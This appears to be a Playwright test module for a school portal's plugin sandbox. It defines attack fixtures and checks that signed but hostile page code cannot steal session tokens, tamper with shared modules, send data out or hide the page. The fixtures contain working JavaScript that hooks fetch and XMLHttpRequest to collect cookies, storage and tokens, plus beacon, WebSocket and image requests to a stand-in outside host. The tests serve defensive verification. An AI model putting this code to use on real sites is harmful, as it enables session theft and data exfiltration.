import { createServer } from 'node:http'
import { once } from 'node:events'
import { expect, type Page } from '@playwright/test'
import { type AddedCode, title } from './candidate.ts'
import { otherHost } from './candidate-attacks.ts'

/** Harmful code that runs in a teacher's page, as if the gate had passed and signed it. */
export interface ReleasedAttack {
  id: string
  attack: string
  /** The limit of its effect, for the documentation's table. */
  outcome: string
  code: AddedCode
  /** Whether the last good version is shown instead. */
  isReplaced?: boolean
  /** Verifies the outcome on the attacked page of the teacher with this session token. */
  verify: (page: Page, token: string) => Promise<void>
}

/** The values that the code has put into `window.loot`. */
const lootOf = (page: Page) => page.evaluate((): unknown[] => [Reflect.get(window, 'loot')].flat())

/** Resolves when the code has put all of its values there. */
async function expectLoot(page: Page, verify: (loot: string) => void): Promise<void> {
  await expect.poll(() => lootOf(page)).toContain('the end')
  verify(JSON.stringify(await lootOf(page)))
}

/** Starts a host that is not the portal and records its requests. */
export async function startOtherHost(): Promise<{ origin: string; requests: string[]; stop: () => void }> {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end()
  })
  server.on('upgrade', (request, socket) => {
    requests.push(`socket ${request.url}`)
    socket.destroy()
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const address = server.address()
  if (typeof address !== 'object' || !address) throw new Error('The other host listens on no port')
  return { origin: `127.0.0.1:${address.port}`, requests, stop: () => void server.close() }
}

/** Every attack by released code whose limit is tested. */
export const releasedAttacks: readonly ReleasedAttack[] = [
  {
    id: 'reads-token',
    attack: "Reads the session's token from cookies, storage, the API client and every request and response",
    outcome: 'It finds the session, without its token',
    code: {
      evaluate: `const loot=window.loot=[];const {fetch:send}=window;
window.fetch=async(...call)=>{const request=new Request(...call);loot.push(JSON.stringify([...request.headers]));const response=await send(...call);loot.push(JSON.stringify([...response.headers]),await response.clone().text());return response};
const {open,setRequestHeader}=XMLHttpRequest.prototype;
XMLHttpRequest.prototype.setRequestHeader=function(...header){loot.push(header.join());return setRequestHeader.apply(this,header)};
XMLHttpRequest.prototype.open=function(...call){this.addEventListener('load',()=>loot.push(this.getAllResponseHeaders(),String(this.responseType==='blob'?'':this.responseType==='json'?JSON.stringify(this.response):this.responseText)));return open.apply(this,call)}`,
      mount: `const {loot}=window,{client}=await shared('@portal/api-client');loot.push(document.cookie,...Object.values(localStorage),...Object.values(sessionStorage),JSON.stringify(props.session),...Reflect.ownKeys(client).map((key)=>String(client[key])));
await client.get({url:'/api/annee/select'}).then((answer)=>loot.push(JSON.stringify(answer)),(error)=>loot.push(JSON.stringify(error)));loot.push('the end')`,
    },
    verify: (page, token) =>
      expectLoot(page, (loot) => {
        expect(loot).toContain(String.raw`\"api_token\":\"\"`)
        expect(loot).not.toContain(token)
      }),
  },
  {
    id: 'configures-client',
    attack: 'Replaces or configures the shared API client, the session or another shared module',
    outcome: 'No assignment has an effect, and no module has `configureApi`',
    code: {
      mount: `const loot=[];
const replace=(owner,key,place)=>{const before=owner[key],put=()=>0;try{owner[key]=put}catch{}if(owner[key]===put){loot.push(place);owner[key]=before}};
for(const name of Object.keys(scope)){const module=await shared(name);
for(const key of ['configureApi','setLanguage','startI18n','PortalContext'])if(key in module)loot.push(name+' has '+key);
for(const [key,value] of Object.entries(module)){replace(module,key,name+' '+key);
if(value===Object(value)&&!key.startsWith('__')&&value.$$typeof!==Symbol.for('react.context'))for(const part of Object.keys(value))replace(value,part,name+' '+key+' '+part)}}
for(const key of Object.keys(props.session))replace(props.session,key,'session '+key);
loot.push('the end');window.loot=loot`,
    },
    verify: (page) => expectLoot(page, (loot) => expect(loot).toBe('["the end"]')),
  },
  {
    id: 'sends-data',
    attack: 'Sends data to another host by `fetch`, a beacon, a WebSocket, an image or a script',
    outcome: 'The content security policy refuses each; the host receives no request',
    code: {
      mount: `window.loot=[];const host='${otherHost}';
const refused=new Promise((done)=>{let count=0;document.addEventListener('securitypolicyviolation',()=>{if(++count>=5)done()})});
fetch('http://'+host+'/fetch',{mode:'no-cors'}).catch(()=>{});navigator.sendBeacon('http://'+host+'/beacon','x');
try{new WebSocket('ws://'+host+'/socket')}catch{}
new Image().src='http://'+host+'/image';
const script=document.createElement('script');script.src='http://'+host+'/script';document.head.append(script);
refused.then(()=>window.loot.push('the end'))`,
    },
    verify: (page) => expectLoot(page, (loot) => expect(loot).toBe('["the end"]')),
  },
  {
    id: 'inserts-style',
    attack: 'Inserts a style element with `body { display: none }`',
    outcome: 'The content security policy refuses it; the portal stays visible',
    code: {
      mount: `window.loot=[];document.addEventListener('securitypolicyviolation',()=>window.loot.push('the end'));const style=document.createElement('style');style.textContent='body{display:none}';document.head.append(style)`,
    },
    verify: async (page) => {
      await expectLoot(page, () => undefined)
      await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible()
    },
  },
  {
    id: 'renders-without-end',
    attack: 'A page that sets its state while it is rendered, without end',
    outcome: 'The last good version replaces it',
    code: {
      page: '(props)=>{const {React}=window.GLOBAL,[count,setCount]=React.useState(0);setCount(count+1);return Page(props)}',
    },
    isReplaced: true,
    verify: (page) => expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible(),
  },
]
